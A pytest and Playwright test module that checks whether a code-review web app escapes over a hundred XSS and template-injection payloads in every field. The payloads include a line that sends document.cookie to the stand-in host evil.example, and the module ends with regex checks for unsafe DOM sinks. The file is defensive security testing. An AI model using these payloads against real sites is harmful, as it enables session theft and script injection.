"""Text that wants to be more than text, in every field of the review page: it is shown, and does
nothing.
"""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from functools import partial
from itertools import islice
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import Browser, Dialog

import goldwright.web
from effort import first_of, is_thorough
from goldwright.app.runs.run_files import stage_files_in
from goldwright.journal import ReviewLog
from goldwright.plan import Plan
from goldwright.records import (
    AnyReviewEvent,
    CheckFailure,
    DecisionEvent,
    EditEvent,
    ExpectedEntity,
    FactCitation,
    FileRange,
    GateFailure,
    HumanVerdict,
    NarrativeVerdict,
    OracleAnswer,
    PracticeRecord,
    QueryCandidate,
    QueuedRecord,
    Record,
    ReviewPass,
    SampledRecord,
    SampleEvent,
    TrainingEvent,
    VerdictEvent,
)
from goldwright.review.practice_desk import TrainingMode
from goldwright.review.record_content import RecordContent
from goldwright.review.session import ReviewSession
from goldwright.review.session_view import ReviewBatch
from goldwright.snapshot import Snapshot, open_snapshot
from goldwright.stages.context import without_authorship
from goldwright.workspace import RunDirectory, StageFileName
from journeys.browser import Reader, Trap, serving

EVIL: Final = "evil.example"
PLAIN: Final = r'''
<script>alert(1)</script>
<script>window.pwned=1</script>
<ScRiPt>window.pwned=1</sCrIpT>
<script src=http://evil.example/a.js></script>
<script src="//evil.example/b.js" async></script>
<script type=module>import "http://evil.example/c.js"</script>
<script>fetch("http://evil.example/"+document.cookie)</script>
<script>new Image().src="http://evil.example/i"</script>
<script x>window.pwned=1</script x>
<script/window.pwned>window.pwned=1</script>
<scr<script>ipt>window.pwned=1</scr</script>ipt>
</script><script>window.pwned=1</script>
</title><script>window.pwned=1</script>
</textarea><script>window.pwned=1</script>
</style><script>window.pwned=1</script>
</template><script>window.pwned=1</script>
</noscript><script>window.pwned=1</script>
</main></div><script>window.pwned=1</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x onerror=alert(1)>
<img src=x onerror="window.pwned=1">
<img src='x' onerror='window.pwned=1'>
<img src=x:x onerror=window.pwned=1//
<img/src=x/onerror=window.pwned=1>
<img src=http://evil.example/pixel.gif>
<img srcset="http://evil.example/pixel2.gif 2x">
<img src=x onload=alert(1) onerror=alert(2)>
<img """><script>alert(1)</script>">
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<image src=x onerror=window.pwned=1>
<picture><source srcset=http://evil.example/s><img onerror=window.pwned=1 src=x></picture>
<body onload=alert(1)>
<body onpageshow=window.pwned=1>
<svg onload=alert(1)>
<svg/onload=window.pwned=1>
<svg><script>window.pwned=1</script></svg>
<svg><script href=http://evil.example/s.js></script></svg>
<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>
<svg><a xlink:href="javascript:window.pwned=1"><text y=20>go</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"></use></svg>
<svg><foreignObject><img src=x onerror=window.pwned=1></foreignObject></svg>
<svg><set attributeName=onmouseover to=window.pwned=1>
<svg><style>@import "http://evil.example/x.css"</style></svg>
<svg><desc><![CDATA[</desc><script>window.pwned=1</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:window.pwned=1">CLICK</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>
<form action=http://evil.example/f><input type=submit autofocus onfocus=this.click()>
<form id=page><input name=innerHTML><input name=textContent></form>
<button formaction=javascript:window.pwned=1 autofocus onfocus=window.pwned=1>
<input onfocus=window.pwned=1 autofocus>
<input type=image src=http://evil.example/i2 onerror=window.pwned=1>
<select onfocus=window.pwned=1 autofocus></select>
<textarea onfocus=window.pwned=1 autofocus></textarea>
<keygen autofocus onfocus=window.pwned=1>
<details open ontoggle=window.pwned=1>
<dialog open onclose=window.pwned=1>
<video><source onerror=window.pwned=1></video>
<video src=http://evil.example/v onerror=window.pwned=1></video>
<audio src=x onerror=window.pwned=1></audio>
<marquee onstart=window.pwned=1>
<iframe src=javascript:parent.pwned=1></iframe>
<iframe src=http://evil.example/frame></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<frameset onload=window.pwned=1><frame src=x></frameset>
<object data="data:text/html,<script>parent.pwned=1</script>"></object>
<object data=http://evil.example/o></object>
<embed src=http://evil.example/e>
<applet code=http://evil.example/x.class>
<portal src=http://evil.example/p>
<link rel=stylesheet href=http://evil.example/s.css>
<link rel=preload as=script href=http://evil.example/p.js>
<link rel=prefetch href=http://evil.example/pre>
<link rel=dns-prefetch href=//dns.evil.example>
<link rel=preconnect href=http://pc.evil.example>
<link rel=import href=http://evil.example/import>
<meta http-equiv=refresh content="0;url=http://evil.example/r">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href=http://evil.example/>
<base href="javascript:/a/-window.pwned=1/////////">
<style>body{background:url(http://evil.example/bg)}</style>
<style>@import 'http://evil.example/i.css';</style>
<div style="background:url(http://evil.example/div)">
<div style="position:fixed;inset:0;z-index:999;background:red" onclick=window.pwned=1>
<p style="animation:x" onanimationstart=window.pwned=1>
<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>
<xss onfocus=window.pwned=1 autofocus tabindex=1>
<xss contenteditable onbeforeinput=window.pwned=1 id=note>
<a href=javascript:window.pwned=1>click</a>
<a href="java&#9;script:window.pwned=1">click</a>
<a href="&#106;avascript:window.pwned=1">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href=vbscript:msgbox(1)>click</a>
<a href=http://evil.example/ ping=http://evil.example/ping target=_blank>click</a>
javascript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
" onmouseover="window.pwned=1
" autofocus onfocus="window.pwned=1" x="
' autofocus onfocus='window.pwned=1' x='
" onanimationstart=window.pwned=1 style="animation:leave 1s" "
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
"/><svg/onload=window.pwned=1>
\"><img src=x onerror=window.pwned=1>
\u003cimg src=x onerror=window.pwned=1\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
%3Cscript%3Ealert(1)%3C/script%3E
<!--><script>window.pwned=1</script>-->
<!-- --!><img src=x onerror=window.pwned=1> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>
<%= 7*7 %><%- include("/etc/passwd") %>
{{7*7}}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config }}{{ frame.reviewer }}{{ page.item }}
{% for x in range(9) %}x{% endfor %}
{% include "record.html" %}{# a comment #}
{{constructor.constructor('alert(1)')()}}
<div ng-app>{{$eval.constructor('alert(1)')()}}</div>
<div v-html="'<img src=x onerror=alert(1)>'">{{_c.constructor('alert(1)')()}}</div>
${alert(1)} #{7*7} ${{7*7}} @(1+1) {0.__class__}
`${alert(1)}` and `<img src=x onerror=alert(1)>` in code
` unbalanced <b onmouseover=alert(1)> backtick
%(name)s %s {} {0} $name \0 \1 \g<0>
[click](javascript:alert(1)) ![x](http://evil.example/md.png)
[a]: <http://evil.example/md2> "t"
</span></div></li></ul><button data-choice="wrong" data-key="1">Correct</button>
<button type="button" data-do="undo" data-key="j">next</button>
<li class="claim" id="narrative" data-claim="narrative" data-lines="">stolen</li>
<a id=page><a id=page name=said><a id=record data-query=q>clobbered</a>
<img name=trustedTypes><img name=sessionStorage>
__proto__[pwned]=1
<table><tr><td background=http://evil.example/td></table>
<isindex type=image src=1 onerror=alert(1)>
<event-source src=http://evil.example/es onload=window.pwned=1>
<a href="x"><table><a href="x"><img src=x onerror=window.pwned=1></table>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<title><a id="</title><img src=x onerror=window.pwned=1>">
<textarea><img title="</textarea><img src=x onerror=window.pwned=1>">
<plaintext>
<!--
<script>
'''.strip().splitlines()
LONG: Final = (
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    (
        '<math><annotation-xml encoding="text/html">'
        "<img src=x onerror=window.pwned=1></annotation-xml></math>"
    ),
    (
        "javascript:/*--></title></style></textarea></script></xmp>"
        "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"
    ),
    (
        '<select><template><style><!--</style><a rel="--></style></template></select>'
        '<img id=x src=x onerror=window.pwned=1>">'
    ),
)
HIDDEN: Final = {
    "nul\0<img src=x onerror=alert(1)>\0": "nul\\u{0}<img src=x onerror=alert(1)>\\u{0}",
    "\u202e<script>alert(1)</script>\u202c": "\\u{202e}<script>alert(1)</script>\\u{202c}",
    "\u2066approved\u2069\u2067 wrong": "\\u{2066}approved\\u{2069}\\u{2067} wrong",
    "zero\u200bwidth\u200d\ufeff<svg onload=alert(1)>": (
        "zero\\u{200b}width\\u{200d}\\u{feff}<svg onload=alert(1)>"
    ),
    "line\u2028alert(1)\u2029//": "line\\u{2028}alert(1)\\u{2029}//",
    "tags\U000e0041\U000e0042 <b>": "tags\\u{e0041}\\u{e0042} <b>",
    "\x1b]0;owned\x07\x1b[2J<i>": "\\u{1b}]0;owned\\u{7}\\u{1b}[2J<i>",
    "back\x08space\x7f\x9b31m": "back\\u{8}space\\u{7f}\\u{9b}31m",
    "soft\xadhyphen\u034f\u115f\u3164": "soft\\u{ad}hyphen\\u{34f}\\u{115f}\\u{3164}",
    "java\rscript:alert(1)": "java\\u{d}script:alert(1)",
    "vertical\x0btab\x0cfeed <img\x0csrc=x\x0conerror=alert(1)>": (
        "vertical\\u{b}tab\\u{c}feed <img\\u{c}src=x\\u{c}onerror=alert(1)>"
    ),
}
ODD: Final = (
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u0130mg \u017fcript \u212a <\u017fcript>alert(1)</\u017fcript>",
    "e" + "\u0301" * 60 + " <b>",
    "java\nscript:alert(1)",
    "<img\tsrc=x\nonerror\n=\talert(1)>",
    "<b>" * 300,
    "A" * 900 + "<script>alert(1)</script>",
)
# What swallows the text behind it comes last, so that it cannot hide what the others do.
SWALLOWS: Final = PLAIN[-3:]
EVERY_PAYLOAD: Final = (*PLAIN[:-3], *LONG, *HIDDEN, *ODD, *SWALLOWS)
# A third of all, from every kind of them.
SHARE: Final = (*PLAIN[:-3:4], *LONG[::2], *list(HIDDEN)[::2], *ODD[::2], *SWALLOWS)
PAYLOADS: Final = EVERY_PAYLOAD if is_thorough() else SHARE
ENDINGS: Final = (
    ".py",
    ".html",
    ".js",
    ".md",
    ".xml",
    ".css",
    ".txt",
    ".json",
    ".svg",
    ".yaml",
    ".diff",
    ".rst",
)
WHEN: Final = "2026-01-01T00:00:00Z"
ALL: Final = " | ".join(PAYLOADS)
PLAN: Final = Plan.model_validate_json(
    '{"schema_version": "1.0.0", "name": "odd", "total": 40, "minimum_total": 1,'
    ' "cells": {"locate": {"easy": 40, "medium": 0, "hard": 0}}}'
)


def shown(payload: str) -> str:
    """What stands on the page for a payload."""
    return HIDDEN.get(payload, payload)


def as_prose(payload: str) -> str:
    """The same where backticks mark code."""
    return shown(payload).replace("`", "")


def as_quoted(payload: str) -> tuple[str, str]:
    """The two ways in which a message of the gate may stand on the page that quotes a payload."""
    return as_prose(payload), repr(payload)[1:-1].replace("`", "")


@dataclass(frozen=True)
class Stage:
    """A run in which every text is a payload, its codebase, and the browser that is shown it."""

    browser: Browser
    trap: Trap
    directory: RunDirectory
    snapshot: Snapshot

    @contextmanager
    def reading(
        self, sitting: ReviewPass, reviewer: str = ALL, training: TrainingMode = "off"
    ) -> Iterator[Reader]:
        """Read as a person of some name in a sitting."""
        stage_files = stage_files_in(self.directory)
        batch = ReviewBatch(
            plan=PLAN, stage_files=stage_files, run="run", seed=1, round=1, is_complete=True
        )
        with ReviewLog(self.directory.stage_path(StageFileName.HUMAN_REVIEWS)) as reviews:
            reviews.refresh()
            room = ReviewSession(
                lambda: batch,
                reviews,
                self.snapshot,
                reviewer=reviewer,
                review_pass=sitting,
                read_time=lambda: WHEN,
                training=training,
            )
            with serving(room, ALL) as address, Reader(self.browser, address) as reader:
                yield reader
                assert reader.page.evaluate("() => window.pwned") is None
        assert [call for call in self.trap.caught if b"evil" in call] == []


@pytest.fixture(scope="module")
def stage(
    tmp_path_factory: pytest.TempPathFactory, browser: Browser, trap: Trap
) -> Iterator[Stage]:
    """Everything is made once, for it is only looked at."""
    root = tmp_path_factory.mktemp("xss")
    codebase, run = root / "codebase", RunDirectory(root / "run")
    codebase.mkdir()
    run.path.mkdir()
    files = [write_file(codebase, number, payload) for number, payload in enumerate(PAYLOADS)]
    snapshot = open_snapshot(codebase, cache=root / "cache", workers=1)
    write_run(run, files)
    yield Stage(browser, trap, run, snapshot)
    snapshot.close()


def write_file(root: Path, number: int, payload: str) -> str:
    """Write a payload as code, under its own name where a file may have it, and give the name."""
    ending = ENDINGS[number % len(ENDINGS)]
    own = f"{number}{payload}{ending}"
    can_be = not re.search("[\0-\x1f\x7f-\x9f]|//", own) and all(
        len(part.encode()) < 200 for part in own.split("/")
    )
    path = root / (own if can_be else f"{number}{ending}")
    path.parent.mkdir(parents=True, exist_ok=True)
    line = re.sub("[\0\r\n]", " ", payload)
    path.write_text(f'{line}\nx = "{line}"\n# {line}\n', encoding="utf-8", newline="\n")
    return str(path.relative_to(root))


def write_run(run: RunDirectory, files: list[str]) -> None:
    """Three records for every ten payloads: one in the sample, one in the queue, one that failed
    the gate.
    """
    tens = [
        (PAYLOADS[at : at + 10], tuple(files[at : at + 10])) for at in range(0, len(PAYLOADS), 10)
    ]
    sampled: list[tuple[RecordContent, tuple[str, ...]]] = []
    queued: list[tuple[RecordContent, tuple[str, ...]]] = []
    for number, (payloads, names) in enumerate(tens):
        for kind in "sqf":
            query_id = f"{kind}{number:02} {payloads[0][:150]}"
            content = RecordContent(
                candidate_of(query_id, payloads), answer_of(query_id, payloads, names)
            )
            add(run, StageFileName.CANDIDATES, content.candidate)
            add(run, StageFileName.ORACLE_ANSWERS, content.answer)
            add(run, *OUTCOMES[kind](query_id, payloads))
            {"s": sampled, "q": queued, "f": []}[kind].append((content, payloads))
    with ReviewLog(run.stage_path(StageFileName.HUMAN_REVIEWS)) as reviews, reviews.turn() as write:
        for event in events(sampled, queued):
            write(partial(numbered, event))


def numbered(event: AnyReviewEvent, number: int) -> AnyReviewEvent:
    """Give an event its place in the file."""
    return event.model_copy(update={"number": number})


def add(run: RunDirectory, name: StageFileName, record: Record) -> None:
    """Add one line to a stage file."""
    with run.stage_path(name).open("a") as file:
        file.write(record.as_json() + "\n")


def passed(query_id: str, payloads: tuple[str, ...]) -> tuple[StageFileName, Record]:
    """The record that lets an answer through to people."""
    reason = payloads[0]
    record = NarrativeVerdict(
        query_id=query_id, verdict="equivalent", reason=reason, authored_by="x", created_at=WHEN
    )
    return StageFileName.NARRATIVE_VERDICTS, record


def stopped(query_id: str, payloads: tuple[str, ...]) -> tuple[StageFileName, Record]:
    """The record that asks people for a decision."""
    record = QueuedRecord(
        query_id=query_id, task_type="locate", difficulty="easy", created_at=WHEN, reasons=payloads,
        entity_jaccard=None, file_jaccard=None, narrative_verdict=None,
    )  # fmt: skip
    return StageFileName.HUMAN_REVIEW_QUEUE, record


def failed(query_id: str, payloads: tuple[str, ...]) -> tuple[StageFileName, Record]:
    """The record of what the gate found."""
    failures = tuple(CheckFailure(check=one, claim=one, message=one) for one in payloads)
    record = GateFailure(
        query_id=query_id, task_type="locate", difficulty="easy", created_at=WHEN, failures=failures
    )
    return StageFileName.VALIDATION_FAILURES, record


OUTCOMES: Final = {"s": passed, "q": stopped, "f": failed}


def events(
    sampled: list[tuple[RecordContent, tuple[str, ...]]],
    queued: list[tuple[RecordContent, tuple[str, ...]]],
) -> Iterator[AnyReviewEvent]:
    """What people said: every note, name, changed text and hint is a payload."""
    drawn = tuple(
        SampledRecord(query_id=one.candidate.query_id, content=one.digest) for one, _ in sampled
    )
    yield SampleEvent(
        number=1,
        key="sample",
        reviewer="x",
        reviewed_at=WHEN,
        round=1,
        population=drawn,
        drawn=drawn,
    )
    for content, payloads in sampled:
        yield from changes(content, payloads)
        yield said(content, "second", "correct", payloads)
    for content, payloads in queued:
        yield DecisionEvent(
            number=1, key=f"d-{content.digest}", reviewer=payloads[0][:100], reviewed_at=WHEN,
            query_id=content.candidate.query_id, sitting="first", content=content.digest,
            decision="retry", words=typed(payloads),
        )  # fmt: skip


def changes(content: RecordContent, payloads: tuple[str, ...]) -> Iterator[AnyReviewEvent]:
    """Each of ten reviewers changes one fact into a payload, and one of them gives a verdict."""
    for at, payload in enumerate(payloads):
        before = content.answer.must_mention_facts
        after = (*before[:at], payload + "!", *before[at + 1 :])
        edit = EditEvent(
            number=1, key=f"e{at}-{content.digest}", reviewer=payload[:100], reviewed_at=WHEN,
            query_id=content.candidate.query_id, sitting="first", content=content.digest,
            field="must_mention_facts", before=before, after=after,
            citations=content.answer.fact_citations,
        )  # fmt: skip
        content = content.with_edits([edit])
        yield edit
    yield said(content, "first", "minor_issue", payloads)


def said(
    content: RecordContent, sitting: ReviewPass, verdict: HumanVerdict, payloads: tuple[str, ...]
) -> AnyReviewEvent:
    """A verdict with a note of payloads."""
    return VerdictEvent(
        number=1, key=f"v-{sitting}-{content.digest}", reviewer=payloads[0][:100], reviewed_at=WHEN,
        query_id=content.candidate.query_id, sitting=sitting, content=content.digest,
        verdict=verdict, note=typed(payloads), disputed=payloads,
    )  # fmt: skip


def as_code(payload: str) -> str:
    """The same in the lines of a file, where a payload takes one line."""
    return re.sub(r"\\u\{[0d]\}|\n", " ", shown(payload))


def typed(payloads: tuple[str, ...]) -> str:
    """A note of payloads, as far as one line of a keyboard goes."""
    return " | ".join(one for one in payloads if not re.search("[\0\r\n]", one))


def candidate_of(query_id: str, payloads: tuple[str, ...]) -> QueryCandidate:
    """A question of payloads."""
    question = "\n".join(payload[:150] for payload in payloads)
    return QueryCandidate(
        query_id=query_id, task_type="locate", difficulty="easy", query_text=question,
        target_entity_ids=tuple(payloads), authored_by="x", created_at=WHEN,
    )  # fmt: skip


def answer_of(query_id: str, payloads: tuple[str, ...], names: tuple[str, ...]) -> OracleAnswer:
    """An answer of payloads, which cites the files that hold them."""
    ranges = tuple(FileRange(file=name, start=1, end=3) for name in names)
    entities = tuple(
        ExpectedEntity(entity_id=payload, role="primary", rationale=payload) for payload in payloads
    )
    citations = tuple(
        FactCitation(file=name, start=1, end=2, claim_id=f"{kind}-{place}")
        for kind in ("fact", "not-fact")
        for place, name in enumerate(names, start=1)
    )
    return OracleAnswer(
        query_id=query_id, task_type="locate", difficulty="easy", authored_by="x", created_at=WHEN,
        expected_entities=entities, expected_files=(*names, *payloads),
        expected_line_ranges=ranges, fact_citations=citations,
        must_mention_facts=tuple(payloads), must_not_mention_facts=tuple(payloads),
        canonical_narrative="\n".join(payloads), source_evidence=(), confidence="low",
        uncertainty_notes="\n".join(payloads),
    )  # fmt: skip


# What a view shows, by the field that it comes from.
GATHER: Final = """
() => {
  const all = (selector) => [...document.querySelectorAll(selector)];
  const texts = (selector) => all(selector).map((one) => one.textContent);
  const values = (name) => all('[data-' + name + ']').map((one) => one.dataset[name]);
  return {
    prose: {
      query: texts('h1'), why: texts('.why'), unsure: texts('.unsure'),
      narrative: texts('#narrative .pick'), rationale: texts('.claim .note'),
      fact: texts('[id^=fact-] .pick'), notfact: texts('[id^=not-fact-] .pick'),
    },
    exact: {
      run: texts('.run'), reviewer: texts('.reviewer'), entity: texts('[id^=entity-] code'),
      file: texts('[id^=file-] code'), pane: texts('.pane .path'),
      option: [...document.getElementById('editor').content.querySelectorAll('option')]
        .map((one) => one.textContent),
    },
    check: texts('.failures li'), edits: texts('.edit'), code: texts('.code .row .text'),
    note: document.getElementById('note').value, text: values('text'), id: texts('.place'),
  };
}
"""


def walk(reader: Reader) -> Iterator[dict[str, Any]]:
    """Read every record from the first to the last, and say every claim of the first one."""
    reader.turn("o")
    assert all(shown(one) in reader.see(".run") for one in PAYLOADS)
    reader.page.locator("#overview li button").first.click()
    reader.page.wait_for_selector("#record")
    yield dict(reader.page.evaluate(GATHER))
    while reader.data("following"):
        reader.turn("s")
        yield dict(reader.page.evaluate(GATHER))


def tens() -> list[tuple[str, ...]]:
    """The payloads as they are spread over the records."""
    return [PAYLOADS[at : at + 10] for at in range(0, len(PAYLOADS), 10)]


def number_of(view: dict[str, Any]) -> tuple[str, int]:
    """The lane and the number of the ten payloads that a view is made of."""
    found = re.search(r"\b([sqf])(\d\d) ", view["id"][0])
    assert found is not None
    return found[1], int(found[2])


def unseen(
    view: dict[str, Any], payloads: tuple[str, ...], *, without: tuple[str, ...] = ()
) -> list[str]:
    """The payloads that a view does not show as text, each with the field that should."""
    prose = {name: "\n".join(texts) for name, texts in view["prose"].items()}
    exact = {name: "\n".join(texts) for name, texts in view["exact"].items()}
    lost = [
        (name, one)
        for name, text in prose.items()
        for one in payloads
        if as_prose(one)[:150] not in text
    ]
    lost += [
        (name, one) for name, text in exact.items() for one in payloads if shown(one) not in text
    ]
    code = "".join(view["code"])
    lost += [("code", one) for one in payloads if as_code(one)[:300] not in code]
    return [f"{name}: {one}" for name, one in lost if name not in without]


def changed(view: dict[str, Any], payloads: tuple[str, ...], *, named: bool) -> list[str]:
    """The payloads that are missing from the list of changes, in texts or in who made them."""
    edits = "\n".join(view["edits"])
    lost = [f"edit: {one}" for one in payloads if f"+ {as_prose(one)}!" not in edits]
    return lost + [f"by: {one}" for one in payloads if named and shown(one)[:100] not in edits]


def test_at_least_120_payloads_do_nothing_in_any_field_of_the_first_sitting(stage: Stage) -> None:
    """Questions, answers, names of files and entities, code, reasons, findings, notes, changes,
    people.
    """
    assert len(EVERY_PAYLOAD) >= 120
    assert 4 * len(PAYLOADS) >= len(EVERY_PAYLOAD)
    lost: list[str] = []
    with stage.reading("first") as reader:
        seen = {}
        for view in walk(reader):
            lane, number = number_of(view)
            seen[lane, number] = view
            payloads = tens()[number]
            lost += unseen(view, payloads, without=("why",) if lane == "s" else ())
            if lane == "s":
                lost += changed(view, payloads, named=True)
            if lane == "f":
                checks = "\n".join(view["check"])
                lost += [
                    f"gate: {one}"
                    for one in payloads
                    if not any(each in checks for each in as_quoted(one))
                ]
            else:
                assert view["note"] == typed(payloads)
    assert len(seen) == 3 * len(tens())
    assert lost == []


@pytest.mark.thorough
def test_nor_do_they_in_the_second_sitting(stage: Stage) -> None:
    """The second reviewer sees the same texts."""
    lost: list[str] = []
    with stage.reading("second") as reader:
        views = list(walk(reader))
    for view in views:
        payloads = tens()[number_of(view)[1]]
        lost += unseen(view, payloads, without=("why",))
        assert view["note"] == typed(payloads)
    assert (len(views), lost) == (len(tens()), [])


def test_nor_where_differences_are_settled(stage: Stage) -> None:
    """An adjudicator sees both notes, and every change with its author."""
    lost: list[str] = []
    with stage.reading("adjudication") as reader:
        views = list(walk(reader))
    for view in views:
        payloads = tens()[number_of(view)[1]]
        lost += unseen(view, payloads, without=("why",)) + changed(view, payloads, named=True)
        why = "\n".join(view["prose"]["why"])
        lost += [
            f"note: {one}"
            for one in payloads
            if one in typed(payloads) and as_prose(one) not in why
        ]
    assert (len(views), lost) == (len(tens()), [])


@pytest.mark.thorough
def test_nor_on_practice_records_and_in_what_is_told_of_them(stage: Stage) -> None:
    """What was changed, and where it is seen, is told in texts that agents and files made."""
    files = stage_files_in(stage.directory)
    reviews = ReviewLog(stage.directory.stage_path(StageFileName.HUMAN_REVIEWS))
    records: list[PracticeRecord] = []
    answers = islice(files.answers.done.values(), 0, None, 3)
    for payloads, answer in zip(tens(), answers, strict=True):
        seen_at = tuple(
            FileRange(file=cited.file, start=1, end=1) for cited in answer.fact_citations[:1]
        )
        records.append(
            PracticeRecord(
                place=len(records) + 1, query_id=answer.query_id, kind="false_fact",
                claim_id="fact-1", before=payloads[0], after=payloads[-1], seen_at=seen_at,
                answer=without_authorship(answer),
            )
        )  # fmt: skip
    begun = TrainingEvent(
        number=1, key="training", reviewer="Practising", reviewed_at=WHEN, sitting="first",
        attempt=1, records=tuple(records),
    )  # fmt: skip
    with reviews, reviews.turn() as write:
        write(partial(numbered, begun))
    lost: list[str] = []
    with stage.reading("first", "Practising", training="offer") as reader:
        for record in records:
            assert reader.data("query") == f"practice-{record.place}"
            reader.press("x")
            reader.turn("4")
            told = reader.page.locator(".feedback").text_content() or ""
            lost += [one for one in (record.before, record.after) if as_prose(one) not in told]
            reader.turn("s")
        assert reader.see("h1") == f"{len(records)} of {len(records)} right"
    assert lost == []


def test_what_is_said_and_typed_stays_text(stage: Stage) -> None:
    """The live region says claims and refusals; a payload typed into an editor comes back as it was
    typed.
    """
    with stage.reading("first", reviewer="<img src=x onerror=alert(1)>") as reader:
        reader.turn("o")
        reader.page.locator(
            "#overview section[aria-label='Failed the gate'] li button"
        ).first.click()
        reader.page.wait_for_selector("#record[data-lane=failed_gate]")
        for _ in tens()[0]:
            reader.press("j")
            stands = reader.page.locator(".claim[aria-current] .pick").inner_text().split()
            assert stands
            assert stands == reader.see("#said").split()
        reader.press("1")
        assert tens()[0][0] in reader.told("the gate stops it")
        for payload in first_of((PLAIN[20], *ODD[:2], *PLAIN[21:24]), suite=2):
            reader.page.click("#narrative .pick")
            reader.press("e")
            reader.page.fill(".editor textarea", payload)
            reader.turn("Control+Enter")
            assert as_prose(payload) in reader.see("#narrative .pick")
            reader.press("e")
            assert reader.page.input_value(".editor textarea") == payload
            reader.press("Escape")
            reader.page.fill("#note", payload)
            reader.press("Escape")
            reader.turn("4")
            reader.turn("u")
            reader.turn("u")


def test_the_payloads_are_alive_where_nothing_is_escaped(stage: Stage) -> None:
    """Were the page to let them through, these tests would notice."""
    dialogs: list[str] = []
    trap = Trap()
    with trap.listening() as port, stage.browser.new_context() as context:
        page = context.new_page()

        def dismiss(dialog: Dialog) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", dismiss)
        effects = 0
        for payload in PLAIN[:32]:
            page.set_content(f"<p>{payload.replace(EVIL, f'127.0.0.1:{port}')}</p>")
            effects += page.evaluate(
                "() => { const was = window.pwned; delete window.pwned; return was ? 1 : 0; }"
            )
    assert effects >= 8
    assert len(dialogs) >= 3
    assert len(trap.caught) >= 3


# What turns text into markup or code in a browser.
SINKS: Final = (
    r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function"
    r"|createContextualFragment|setHTMLUnsafe|parseHTMLUnsafe|\bsrcdoc\b|setTimeout\(\s*['\"`]"
)
# What lets a template write text as it is, or holds code or style beside the files for them.
UNSAFE: Final = (
    r"\|\s*safe\b|autoescape|\bMarkup\b|javascript:|<style|\sstyle=|\son[a-z]+\s*="
    r"|<script(?![^>]*\ssrc=)"
)
UNQUOTED: Final = r"<[^>]*?=\s*\{\{"
# Each of these lines escapes what it takes.
LINES_WITH_MARKUP: Final = {
    "source_view.py": ["return tuple(Markup(line) for line in highlighted[: len(lines)])"],
    "templating.py": [
        "markup = Markup()",
        'head = Markup("<b>{}</b>\\n").format(make_lines_visible(title)) if title else ""',
        """markup += Markup('<code class="block">{}{}</code>').format(head, lines)""",
        "markup = Markup()",
        'markup += Markup("<code>{}</code>").format(part)',
    ],
}


def test_the_source_of_the_page_has_no_way_to_write_markup() -> None:
    """Text goes in as text: by escaping templates on the server, and as nodes in the browser."""
    root = Path(goldwright.web.__file__).parent
    script = "\n".join(path.read_text() for path in sorted(root.glob("static/*.js")))
    assert re.findall(SINKS, script) == []
    templates = {path.name: path.read_text() for path in sorted(root.glob("templates/*"))}
    assert len(templates) >= 6
    for name, text in templates.items():
        assert (name, re.findall(UNSAFE, text)) == (name, [])
        assert (name, re.findall(UNQUOTED, text)) == (name, [])
    marked: dict[str, list[str]] = {}
    for path in sorted(root.glob("*.py")):
        for line in path.read_text().splitlines():
            if re.search(r"\bMarkup\(", line):
                marked.setdefault(path.name, []).append(line.partition("  # noqa")[0].strip())
    assert marked == LINES_WITH_MARKUP
    assert "autoescape=True" in (root / "templating.py").read_text()
